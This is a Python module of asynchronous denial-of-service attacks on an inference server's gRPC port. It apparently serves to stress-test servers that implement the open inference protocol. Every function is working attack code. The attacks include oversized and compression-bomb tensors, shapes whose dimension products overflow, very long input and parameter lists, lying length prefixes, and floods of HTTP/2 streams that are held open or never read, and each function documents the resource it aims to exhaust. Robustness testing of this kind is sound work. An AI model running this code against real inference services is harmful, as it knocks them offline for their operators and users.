"""The open inference protocol on the gRPC port: tensors, shapes and lists that are too large, and streams that stay.

Trap: a server without the protocol refuses all of this at once, and every attack would pass.
"""

from __future__ import annotations

import asyncio
import gzip
import itertools
from collections.abc import Sequence

from .http2 import Http2, prefix
from .target import Target, again, together
from .tensors import (
    MODEL_CONFIG,
    MODEL_INFER,
    MODEL_METADATA,
    MODEL_STATISTICS,
    MODEL_STREAM_INFER,
    crops_request,
    endless_shape,
    huge_crop,
    huge_refused,
    lying_pictures,
    many_inputs,
    many_parameters,
    overflowing_shapes,
    request_of,
)

_MIB = 2**20
_GZIP = {"grpc-encoding": "gzip"}


async def refused_tensors(target: Target, *, mib: int = 60, connections: int = 4, at_once: int = 2) -> None:
    """Tensors of 60 MiB of a datatype that no model takes, from four connections, two at a time.

    Aims at: what is joined, parsed and copied before anybody can say that it is refused.
    """
    message = huge_refused(mib * _MIB)
    await together(connections, lambda _: _infer_again(target, [message], at_once))


async def refused_in_streams(target: Target, *, mib: int = 60, streams: int = 8) -> None:
    """The same through eight streams on two connections, which go on after each error.

    Aims at: errors in a stream, which end no call.
    """
    message = huge_refused(mib * _MIB)
    await together(2, lambda _: _stream_again(target, message, streams // 2, grants=2**20))


async def huge_crops(target: Target, *, mib: int = 63, streams: int = 32) -> None:
    """Crops of 63 MiB, which are right, through 32 streams on four connections, as fast as they go.

    Aims at: requests that wait for room, of which a stream may have 32, and messages that wait to be parsed.
    """
    message = huge_crop(mib * _MIB)
    await together(4, lambda _: _stream_again(target, message, streams // 4, grants=2**20))


async def endless_shapes(target: Target, *, sides: int = 30_000, at_once: int = 20) -> None:
    """Shapes of thousands of sides of 2^62, and shapes whose product is 0 in 64 bits, 20 at a time.

    Aims at: their product, which takes the square of their number, and whatever is allocated by it.
    """
    await _infer_again(target, [endless_shape(sides), *overflowing_shapes()], at_once)


async def long_lists(target: Target, *, count: int = 100_000, at_once: int = 20) -> None:
    """100,000 inputs in a request, as many parameters of a tensor as a message holds, and an id of 300 kB.

    Aims at: what is done for each of them, and what is sent back.
    """
    long_id = request_of(("image", "UINT8", [1, 1, 1, 3], bytes(3)), request_id="x" * (3 * count))
    await _infer_again(target, [many_inputs(count), many_parameters(count // 10), long_id], at_once)


async def unread_streams(target: Target, *, streams: int = 256, requests: int = 40, crops: int = 100) -> None:
    """256 streams that send 40 requests of 100 crops each, take no answer, and never end.

    Aims at: answers that wait for a client, with their places.
    """
    await _stream_again(target, crops_request(crops, 8), streams, grants=4000, renews=False, requests=requests)


async def silent_streams(target: Target, *, streams: int = 1024) -> None:
    """1,024 streams of requests on one connection that send none.

    Aims at: the places of streams, for as long as nobody says anything.
    """

    async def attempt() -> None:
        async with Http2(target.host, target.port) as connection:
            held: set[int] = set()
            while True:
                for _ in range(min(64, streams - len(held))):
                    held.add(await connection.call(MODEL_STREAM_INFER, target.headers))
                    target.became["streams opened"] += 1
                await asyncio.sleep(0.05)
                for number in [one for one in held if connection.is_over(one)]:
                    held.discard(number)
                    connection.forget(number)
                    target.became["ended by the server"] += 1

    await again(target, attempt)


async def quick_infers(target: Target, *, at_once: int = 200) -> None:
    """200 requests of one small crop at a time on one connection, each followed by the next.

    Aims at: the rate of requests. Their number at a time is bounded.
    """
    await _infer_again(target, [crops_request(1)], at_once)


async def lying_lengths(target: Target, *, at_once: int = 40) -> None:
    """Pictures whose length is not that of what follows: 4 GiB, one byte less, none at all.

    Aims at: whoever believes a length.
    """
    await _infer_again(target, lying_pictures(), at_once)


async def bombs(target: Target, *, mib: int = 60, at_once: int = 8) -> None:
    """Tensors of 60 MiB of zeros, gzipped to 60 kB.

    Aims at: what a message costs once it is inflated.
    """
    message = gzip.compress(huge_refused(mib * _MIB), 6)
    await _infer_again(target, [message], at_once, compressed=True)


async def questions(target: Target, *, mib: int = 32, at_once: int = 40) -> None:
    """Statistics, metadata and configuration, 40 at a time, and each third question with 32 MiB that nobody knows.

    Aims at: answers that are made anew for each, and questions that are parsed on the event loop.
    """
    stuffed = b"\xa2\x06" + _varint(mib * _MIB) + bytes(mib * _MIB)  # field 100
    paths = itertools.cycle((MODEL_STATISTICS, MODEL_METADATA, MODEL_CONFIG))
    await together(3, lambda index: _ask_again(target, next(paths), stuffed if not index else b"", at_once))


async def _ask_again(target: Target, path: str, message: bytes, at_once: int) -> None:
    await _calls(target, path, [message], at_once // 8 if message else at_once, compressed=False)


async def _infer_again(target: Target, messages: Sequence[bytes], at_once: int, *, compressed: bool = False) -> None:
    await _calls(target, MODEL_INFER, messages, at_once, compressed=compressed)


async def _calls(target: Target, path: str, messages: Sequence[bytes], at_once: int, *, compressed: bool) -> None:
    """Unary calls on one connection, so many at a time, each followed by the next."""
    headers = {**target.headers, **(_GZIP if compressed else {})}

    async def attempt() -> None:
        async with Http2(target.host, target.port) as connection:

            async def one_after_another(number: int) -> None:
                first = number % len(messages)
                for message in itertools.cycle([*messages[first:], *messages[:first]]):
                    call = await connection.call(path, headers)
                    try:
                        await connection.data(call, prefix(len(message), compressed=compressed))
                        await connection.data(call, message, end=True)
                        await connection.ended(call)
                    except ConnectionError:
                        if connection.over:
                            raise
                    target.became["calls"] += 1
                    connection.forget(call)

            await together(at_once, one_after_another)

    await again(target, attempt)


async def _stream_again(
    target: Target, message: bytes, streams: int, *, grants: int, renews: bool = True, requests: int = 0
) -> None:
    """Streams on one connection, each of which sends the message again and again, or so often, until it is ended."""

    async def attempt() -> None:
        async with Http2(target.host, target.port, grants=grants, renews=renews) as connection:

            async def one(_: int) -> None:
                while not connection.over:
                    try:
                        call = await connection.call(MODEL_STREAM_INFER, target.headers)
                        for _ in range(requests) if requests else itertools.count():
                            await connection.data(call, prefix(len(message)))
                            await connection.data(call, message)
                            target.became["requests sent"] += 1
                        await connection.ended(call)
                    except ConnectionError as error:
                        target.became[str(error)] += 1
                    await asyncio.sleep(0.05)

            await together(streams, one)

    await again(target, attempt)


def _varint(value: int) -> bytes:
    out = b""
    while value > 0x7F:
        out += bytes([value & 0x7F | 0x80])
        value >>= 7
    return out + bytes([value])
